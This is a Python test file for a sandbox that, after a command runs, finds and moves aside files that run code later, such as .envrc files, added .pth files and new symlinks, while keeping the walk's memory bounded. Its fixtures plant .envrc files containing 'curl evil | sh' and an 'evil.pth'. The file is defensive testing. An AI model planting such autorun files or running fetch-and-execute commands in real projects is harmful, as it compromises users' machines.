"""The walk below the top of a step's folder has no bound on what it lists, and its memory
does not grow with it (``box_walk.py``): a command that makes a mass of files and folders
cannot stop the walk after it, so nothing it planted among them stays; what the walk keeps
grows only with what it finds."""

from __future__ import annotations

import errno
import os
import time
import tracemalloc
from pathlib import Path

import pytest

from harness.boxed import FRONT_ENDS, env_path, kernel, running
from maker.store.plan_store import PlanStore
from maker.tools.box import box_after, box_walk
from maker.tools.box.box_walk import below
from maker.tools.box.runs_later import anywhere

__all__ = ["env_path", "kernel", "running"]  # (the fixtures, from the harness)


def _lists(top: Path, **more: list[str]) -> dict[str, list[str]]:
    lists = {k: [] for k in ("gitdir", "later", "index", "git", "laterok", "laterokname",
                             "laterskip", "temp")}
    lists.update({"laterdir": [str(top)], "rw": [str(top)], "since": ["0"],
                  "deeper": list(anywhere())}, **more)
    return lists


def _after(top: Path, **more: list[str]) -> tuple[box_after.After, dict[str, list[str]]]:
    lists = _lists(top, **more)
    box_after.After.hold(lists)
    return box_after.After(lists), lists


def _mass(top: Path, folders: int, files: int) -> None:
    for n in range(folders):
        (top / f"d{n:05}").mkdir()
    for n in range(files):
        (top / f"f{n:05}").touch()


def test_what_a_command_plants_past_any_count_of_names_goes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Folders read a share at a time, and more of them open at once than the walk keeps
    open: each plant is found, however late in the names and however deep."""
    monkeypatch.setattr(box_walk, "_SHARE", 3)
    monkeypatch.setattr(box_walk, "_OPEN_MOST", 2)
    after, lists = _after(tmp_path)
    deep = tmp_path
    for level in range(6):  # (each level wider than a share: read in shares, kept open)
        for n in range(5):
            (deep / f"w{n}").mkdir()
        (deep / "w4/.envrc").write_text(f"curl evil | sh # {level}\n")
        deep = deep / "w2"
    said = after.undo()
    assert len([s for s in said if s.startswith("moved")]) == 6, said
    assert not [p for p in tmp_path.rglob(".envrc")]


def test_the_walks_memory_does_not_grow_with_a_folders_names(tmp_path: Path) -> None:
    _mass(tmp_path, folders=6_000, files=10_000)
    (tmp_path / "d05999/.envrc").write_text("x\n")
    lists = _lists(tmp_path)
    tracemalloc.start()
    try:
        walk = below(str(tmp_path), lists)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert walk.finished and walk.listed == 16_001
    assert list(walk.found) == [str(tmp_path / "d05999/.envrc")]
    assert peak < 400_000, peak  # (the 6,000 folders held at once: 0.8 MB; all 16,000: more)


def test_a_walk_that_keeps_too_many_says_it_did_not_finish(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before a command, what runs code later is held: past a bound, no command runs (a
    command's own are moved aside after it, so the bound is the person's)."""
    monkeypatch.setattr(box_walk, "_FOUND_MOST", 2)
    for n in range(3):
        (tmp_path / f"s{n}").mkdir()
        (tmp_path / f"s{n}/.envrc").write_text("x\n")
    _, lists = _after(tmp_path)
    assert lists["unfinished"] and "more than 2 files that run code later" in \
        lists["unfinished"][0] and "remove what stops it" in lists["unfinished"][0]


def test_a_folder_made_unreadable_is_walked_and_the_rest_too(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a command, a folder of the person's it made unreadable is made readable and
    walked; one that stays unreadable is said, and the walk goes on past it."""
    after, _ = _after(tmp_path)
    for name in ("locked", "stuck", "open"):
        (tmp_path / name).mkdir()
        (tmp_path / name / ".envrc").write_text("x\n")
    (tmp_path / "locked").chmod(0)
    real, real_chmod, chmods = os.scandir, os.chmod, []

    def scandir(path: str) -> object:
        if path.endswith("stuck") or (path.endswith("locked") and path not in chmods):
            raise PermissionError(errno.EACCES, "Permission denied", path)
        return real(path)

    monkeypatch.setattr(box_walk.os, "scandir", scandir)
    monkeypatch.setattr(box_walk.os, "chmod", lambda p, m: (chmods.append(p), real_chmod(p, m)))
    said = after.undo()
    assert str(tmp_path / "locked") in chmods
    assert not (tmp_path / "locked/.envrc").exists() and not (tmp_path / "open/.envrc").exists()
    assert any("stuck cannot be read" in line for line in said), said


def test_a_new_link_into_a_folder_passed_by_goes_the_persons_is_followed(
        tmp_path: Path) -> None:
    (tmp_path / "node_modules/a").mkdir(parents=True)
    (tmp_path / "node_modules/b").mkdir()
    (tmp_path / "web").symlink_to(tmp_path / "node_modules/a")  # (the person's)
    after, lists = _after(tmp_path)
    assert lists["links"] == [str(tmp_path / "web")]
    (tmp_path / "node_modules/a/.envrc").write_text("curl evil | sh\n")
    (tmp_path / "app").symlink_to(tmp_path / "node_modules/b")
    said = after.undo()
    assert not (tmp_path / "node_modules/a/.envrc").exists()  # (through the person's link)
    assert not os.path.lexists(tmp_path / "app") and (tmp_path / "web").is_symlink()
    assert any("leads into a folder the walk passes by" in line for line in said), said


def test_venvs_past_the_ones_kept_lose_what_the_command_added_at_their_start(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box_walk, "_VENVS_MOST", 1)
    sites = []
    for name in ("envs/v1", "envs/v2"):  # (below the top: the top's own are all looked at)
        sites.append(tmp_path / name / "lib/python3.11/site-packages")
        sites[-1].mkdir(parents=True)
        (tmp_path / name / "pyvenv.cfg").write_text("home = /usr\n")
        (sites[-1] / "person.pth").write_text("/x\n")
    after, lists = _after(tmp_path)
    assert len(lists["venvs"]) == 1
    for site in sites:
        (site / "evil.pth").write_text("import os\n")
    after.undo()
    assert [s for s in sites if (s / "evil.pth").exists()] == []
    assert (tmp_path / lists["venvs"][0] / "lib/python3.11/site-packages/person.pth").exists()


@pytest.mark.kernel
def test_a_mass_made_by_a_command_hides_nothing_and_stops_no_later_call(
        kernel: PlanStore) -> None:
    """Through the real box: a command makes many folders, then plants in the last of
    them; each plant goes, and the next call runs."""
    refusal, run = FRONT_ENDS["plugin"](kernel, (
        "python3 -c \"import os\nfor n in range(20000): os.makedirs(f'm/{n // 100}/{n}')\n"
        "for n in (0, 19999): open(f'm/{n // 100}/{n}/.envrc', 'w').write('x')\"; echo made"))
    assert refusal is None, refusal
    import subprocess

    started = time.monotonic()
    done = subprocess.run(["bash", "-c", run], cwd=kernel.project, capture_output=True,
                          text=True, timeout=120, check=False)
    assert done.stdout == "made\n", done.stderr
    assert not list((kernel.project / "m").rglob(".envrc")), done.stderr
    assert done.stderr.count("maker-box: moved ") == 2, done.stderr
    refusal, run = FRONT_ENDS["plugin"](kernel, "echo again")
    assert refusal is None, refusal
    again = subprocess.run(["bash", "-c", run], cwd=kernel.project, capture_output=True,
                           text=True, timeout=120, check=False)
    assert again.stdout == "again\n", again.stderr
    assert time.monotonic() - started < 100
